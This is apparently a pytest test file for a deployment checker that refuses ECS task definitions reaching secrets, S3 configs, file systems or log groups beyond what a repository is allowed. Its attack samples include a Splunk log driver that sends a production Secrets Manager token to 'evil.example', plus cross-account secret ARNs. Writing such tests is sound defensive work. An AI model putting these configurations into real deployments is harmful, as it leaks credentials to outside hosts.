"""What a pull request could reach beside its containers' own secrets; each was an attack."""

from typing import Any

import pytest

from deployments.definitions.application import Container
from deployments.definitions.problems import Problem

from .rule_samples import PLAIN, on_ec2, only, service_on_ec2
from .samples import ALLOWED, container, problems_of, problems_of_team, service

SECRET = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-AbCdEf"
CONNECTED = {
    "enabled": True,
    "logConfiguration": {
        "logDriver": "splunk",
        "options": {"splunk-url": "https://evil.example"},
        "secretOptions": [{"name": "splunk-token", "valueFrom": SECRET}],
    },
}


ABROAD = [
    "arn:aws:ssm:eu-west-1:999999999999:parameter/shop/db",
    "arn:aws:ssm:us-east-1:123456789012:parameter/shop/db",
    "arn:aws:secretsmanager:eu-west-1:999999999999:secret:shop/db-AbCdEf",
    "arn:aws:ssm:eu-west-1:999999999999:parameter/aws/reference/secretsmanager/shop/db",
]


def about(entry: str, problems: list[Problem]) -> list[Problem]:
    return [problem for problem in problems if problem.hint.endswith(f"--allow '{entry}'")]


def with_volume(**volume: Any) -> dict[str, Any]:
    return container() | {"volumes": [{"name": "v", **volume}]}


#: A task definition, and the entry of `allowed` without which it is refused.
ATTACKS: list[tuple[dict[str, Any], str]] = [
    (
        container(
            firelensConfiguration={
                "type": "fluentbit",
                "options": {
                    "config-file-type": "s3",
                    "config-file-value": "arn:aws:s3:::prod/secret.conf",
                },
            }
        ),
        "s3:prod/secret.conf",
    ),
    (
        container(credentialSpecs=["credentialspecdomainless:arn:aws:s3:::prod/spec.json"]),
        "s3:prod/spec.json",
    ),
    (
        with_volume(
            fsxWindowsFileServerVolumeConfiguration={
                "fileSystemId": "fs-own",
                "rootDirectory": "share",
                "authorizationConfig": {"credentialsParameter": SECRET, "domain": "corp"},
            }
        ),
        "secretsmanager:prod/db-AbCdEf",
    ),
    (
        with_volume(efsVolumeConfiguration={"fileSystemId": "fs-prod", "rootDirectory": "/"}),
        "file-system:fs-prod",
    ),
]


@pytest.mark.parametrize(("task", "entry"), ATTACKS, ids=[entry for _, entry in ATTACKS])
def test_it_is_refused_and_may_be_allowed(task: dict[str, Any], entry: str) -> None:
    own = ("file-system:fs-own",)
    assert len(about(entry, problems_of_team(task, PLAIN, allowed=own))) == 1
    assert about(entry, problems_of_team(task, PLAIN, allowed=(*own, entry))) == []


@pytest.mark.parametrize("arn", ABROAD)
class TestAnotherAccountOrRegion:
    HERE = ("ssm:*", "ssm:/shop/*", "secretsmanager:*", "secretsmanager:shop/*")

    def reading(self, arn: str, *allowed: str) -> list[Problem]:
        written = container(secrets=[{"name": "DB", "valueFrom": arn}])
        return problems_of_team(written, PLAIN, allowed=(*ALLOWED, *allowed))

    def test_a_pattern_of_names_does_not_open_it(self, arn: str) -> None:
        only(self.reading(arn, *self.HERE), f"reads {self.kind(arn)}:{arn}, which this repository")

    def test_a_pattern_of_arns_does(self, arn: str) -> None:
        whole = f"{self.kind(arn)}:{arn}"
        for allowed in (whole, f"{whole[:-4]}*", f"{self.kind(arn)}:arn:*"):
            assert self.reading(arn, allowed) == []

    def test_edaha_yml_names_it_likewise(self, arn: str) -> None:
        reads = service(Container("app", "app", secrets={"DB": arn}))
        assert only(problems_of(reads, allowed=self.HERE), f"{arn}, which this repository")
        assert problems_of(reads, allowed=(f"{self.kind(arn)}:{arn}",)) == []

    def kind(self, arn: str) -> str:
        return "secretsmanager" if "secretsmanager" in arn else "ssm"


def test_service_connects_log_driver_reads_no_secret() -> None:
    connected = PLAIN | {"serviceConnectConfiguration": CONNECTED}
    problem = only(
        problems_of_team(container(), connected), "The service reads secretsmanager:prod"
    )
    assert problem.file == "ecs-service-def.json"


def test_no_log_goes_to_another_repositorys_group() -> None:
    options = {"awslogs-group": "/edaha/other/repo", "awslogs-region": "eu-west-1"}
    written = container(logConfiguration={"logDriver": "awslogs", "options": options})
    only(problems_of_team(written, PLAIN), "is Edaha's, and not this repository's")


def test_a_volume_drivers_name_alone_is_a_host_volume() -> None:
    volume = {"name": "v", "dockerVolumeConfiguration": {"driver": "rexray/ebs", "scope": "task"}}
    written = on_ec2() | {"volumes": [volume]}
    only(problems_of_team(written, service_on_ec2()), "is of its host's plugin rexray/ebs")
